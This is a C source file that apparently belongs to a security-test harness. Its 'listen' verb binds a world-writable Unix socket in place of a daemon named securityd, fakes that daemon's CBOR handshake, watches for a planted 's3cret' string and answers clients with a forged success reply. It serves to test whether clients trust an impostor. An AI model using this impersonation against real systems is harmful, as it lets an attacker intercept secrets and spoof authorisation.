/* listen PATH [answer FOLDER]: listens in securityd's place, and prints received messages until its input ends. With
   `answer` it does the handshake, in the name of the data folder, and replies with success to the first request. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

/* Writes a number as CBOR, in as few bytes as it takes; returns how many. */
static size_t put_number(uint8_t *bytes, uint64_t value) {
    size_t width = value < 24 ? 0 : value < 0x100 ? 1 : value < 0x10000 ? 2 : value < 0x100000000 ? 4 : 8;
    bytes[0] = (uint8_t)(width == 0 ? value : width == 1 ? 24 : width == 2 ? 25 : width == 4 ? 26 : 27);
    for (size_t index = 0; index < width; index++) bytes[1 + index] = (uint8_t)(value >> 8 * (width - 1 - index));
    return 1 + width;
}

/* {2: nonce, 16 bytes, 3: device, 4: inode} */
static size_t challenge_of(const char *folder, uint8_t *bytes) {
    struct stat status;
    if (stat(folder, &status) != 0) return 0;
    size_t count = 19;
    memcpy(bytes, "\xA3\x02\x50", 3);
    memset(bytes + 3, 0, 16);
    bytes[count++] = 3;
    count += put_number(bytes + count, status.st_dev);
    bytes[count++] = 4;
    return count + put_number(bytes + count, status.st_ino);
}

static void answer(int end, const char *folder) {
    uint8_t challenge[64];
    size_t size = challenge_of(folder, challenge);
    static const uint8_t welcome[] = {0xA1, 0x00, 0x00};
    /* The reply is {0: 0}, then the item {0: 16 bytes, 1: 1, 2: 1, 3: false}. */
    static const uint8_t reply[28] = {
        0xA1, 0x00, 0x00, 0xA4, 0x00, 0x50, [22] = 0x01, 0x01, 0x02, 0x01, 0x03, 0xF4,
    };
    static uint8_t frame[1 << 16];
    if (frame_receive(end, frame, sizeof frame) < 0 || frame_send(end, challenge, size, -1) != 0) return;
    if (frame_receive(end, frame, sizeof frame) < 0 || frame_send(end, welcome, sizeof welcome, -1) != 0) return;
    ssize_t length = frame_receive(end, frame, sizeof frame);
    if (length < 0) return;
    if (memmem(frame, (size_t)length, "s3cret", 6)) printf("heard a secret\n");
    frame_send(end, reply, sizeof reply, -1);
}

int verb_listen(int count, char **words) {
    if (count < 1) return 2;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", words[0]);
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    unlink(words[0]);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 16) != 0)
        return printf("%s\n", strerror(errno)), 1;
    chmod(words[0], 0777);
    printf("listening\n");
    while (1) {
        struct pollfd events[2] = {{.fd = 0, .events = POLLIN}, {.fd = listener, .events = POLLIN}};
        if (poll(events, 2, -1) < 0) continue;
        char byte;
        if (events[0].revents && read(0, &byte, 1) <= 0) return 0;
        if (!events[1].revents) continue;
        int end = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
        if (end < 0) continue;
        if (count > 2) {
            answer(end, words[2]);
        } else {
            char bytes[4096];
            struct timeval patience = {1, 0};
            setsockopt(end, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
            ssize_t length = recv(end, bytes, sizeof bytes, 0);
            printf("heard %zd bytes\n", length < 0 ? 0 : length);
        }
        close(end);
    }
}
